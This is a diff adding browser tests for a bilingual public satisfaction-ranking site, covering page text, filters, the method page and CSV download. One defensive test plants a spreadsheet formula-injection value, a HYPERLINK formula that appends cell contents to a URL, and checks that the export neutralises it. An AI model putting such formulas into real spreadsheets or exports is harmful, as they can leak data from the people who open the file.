@@ -1,0 +1,122 @@
+"""A citizen's way on the public server: the ranking, who is in it, how it is made."""
+
+import csv
+import io
+import shutil
+from pathlib import Path
+
+import duckdb
+import pytest
+
+from tests.browser.conftest import MeetReader
+from tests.browser.reader import DESK, PHONE, Size
+from tests.dashboard import published
+from tests.serving import Server, served
+
+BOTH = pytest.mark.parametrize("language", ["zh", "en"])
+SIZES = pytest.mark.parametrize("size", [DESK, PHONE], ids=lambda size: size.name)
+
+WORDS = {
+    "zh": {
+        "title": "群众满意度排行", "method": "怎么算的", "cities": "地市",
+        "departments": "部门", "period": "时段", "spring": "2026 年二季度",
+        "group": "比较范围", "one_group": "社会民生部门", "listed": "仅列示，不排名",
+        "why": "评价不足 30 件", "vertical": "垂直管理部门，不参与本级排名",
+        "withheld": "样本不足", "download": "下载数据", "name": "名称",
+    },
+    "en": {
+        "title": "Satisfaction ranking", "method": "Method", "cities": "Cities",
+        "departments": "Departments", "period": "Period", "spring": "Q2 2026",
+        "group": "Compared with", "one_group": "Social services",
+        "listed": "Listed, not ranked", "why": "Fewer than 30 ratings",
+        "vertical": "Answers to a higher level", "withheld": "Too few to show",
+        "download": "Download the data", "name": "Name",
+    },
+}  # fmt: skip
+
+
+@SIZES
+@BOTH
+def test_the_ranking_is_the_first_page_and_says_who_is_in_it(
+    public: Server, meet: MeetReader, language: str, size: Size
+) -> None:
+    said = WORDS[language]
+    reader = meet(public, language, size).go()
+    reader.take_picture("journey-ranking")
+    assert reader.headline() == said["title"]
+    everything = reader.words()
+    for word in ("listed", "why", "vertical", "withheld"):
+        assert said[word] in everything, word
+
+    reader.press(said["cities"])
+    assert reader.said("kind") == "city"
+    reader.press(said["departments"])
+    before = reader.words()
+    reader.choose(said["period"], said["spring"])
+    assert reader.said("period") == "quarter:2026-04-01"
+    assert reader.words() != before
+    before = reader.words()
+    reader.choose(said["group"], said["one_group"])
+    assert reader.said("group")
+    assert reader.words() != before
+
+
+@BOTH
+def test_the_method_is_one_click_away(
+    public: Server, meet: MeetReader, language: str
+) -> None:
+    said = WORDS[language]
+    reader = meet(public, language).go()
+    reader.turn_to(said["method"])
+    assert (reader.path, reader.headline()) == ("method", said["method"])
+    assert "Wilson" in reader.words()
+
+
+@BOTH
+def test_the_table_comes_down_as_a_file_a_spreadsheet_opens(
+    public: Server, meet: MeetReader, language: str
+) -> None:
+    said = WORDS[language]
+    file = meet(public, language).go(kind="city").download(said["download"])
+    assert file.suggested_filename == "satisfaction-city-quarter-2026-07-01.csv"
+    content = Path(file.path()).read_bytes()
+    assert content.startswith(b"\xef\xbb\xbf")
+    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
+    assert said["name"] in header
+    assert len(rows) == 15  # 13 prefectures and 2 cities managed by the province
+
+
+def test_nothing_in_the_file_is_a_formula(tmp_path: Path, meet: MeetReader) -> None:
+    folder = published.publish(tmp_path)
+    evil = '=HYPERLINK("http://127.0.0.1/"&A1)'
+    with duckdb.connect(str(folder / "v1-public.duckdb")) as con:
+        con.execute(
+            "UPDATE subject SET name = MAP {'zh': $evil, 'en': $evil}"
+            " WHERE subject_id = 'city:230200'",
+            {"evil": evil},
+        )
+    with served(tmp_path, tmp_path / "server.log", "public") as server:
+        file = meet(server).go(kind="city").download("Download")
+        text = Path(file.path()).read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert f"'{evil}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_a_link_to_the_ranking_of_the_inner_server_works_here(
+    public: Server, meet: MeetReader
+) -> None:
+    reader = meet(public).go("ranking", kind="city")
+    assert (reader.path, reader.said("kind")) == ("", "city")
+    assert reader.page.get_by_role("dialog").count() == 0
+
+
+def test_the_public_server_needs_no_internal_file(
+    public: Server, public_workspace: Path, tmp_path: Path, meet: MeetReader
+) -> None:
+    shutil.copytree(public_workspace, tmp_path / "copy")
+    (internal,) = (tmp_path / "copy" / "published").glob("*-internal.duckdb")
+    internal.unlink()
+    shown = meet(public).go().words()
+    with served(tmp_path / "copy", tmp_path / "server.log", "public") as server:
+        assert meet(server).go().words() == shown
